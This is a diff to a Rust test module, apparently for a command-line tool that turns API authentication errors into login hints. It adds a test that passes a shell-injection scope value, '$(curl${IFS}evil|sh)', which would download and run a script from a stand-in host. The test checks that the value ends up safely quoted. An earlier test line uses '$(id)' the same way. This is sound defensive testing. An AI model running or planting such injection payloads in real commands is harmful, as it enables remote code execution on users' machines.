@@ -135,8 +135,10 @@ fn tenant_domain(authority: &str) -> Option<String> {
 
 #[cfg(test)]
 mod tests {
-    use super::*;
     use url::Url;
+
+    use super::*;
+    use crate::graph::Challenge;
 
     const PERSON: Refused<'_> = Refused { is_application: false, scopes: &[], authority: None };
 
@@ -195,6 +197,14 @@ mod tests {
             assert!(told.ends_with(&line), "{told}");
         }
         assert!(hints(&PERSON, Method::GET, "users/$(id)`@x.example", 404).contains("eq 'EMAIL'"));
+    }
+
+    #[test]
+    fn what_an_own_api_asks_for_cannot_become_a_command() {
+        let challenge = Challenge { scope: Some("$(curl${IFS}evil|sh)".to_owned()), ..Challenge::default() };
+        let refusal = ServiceError { status: 401, challenge: Some(challenge), ..ServiceError::default() };
+        let told = of_own_api(&refusal, &ScopeSet::parse("api://x/Read").unwrap()).join("\n");
+        assert!(told.contains("cids login --scope 'api://x/$(curl${IFS}evil|sh)'"), "{told}");
     }
 
     #[test]
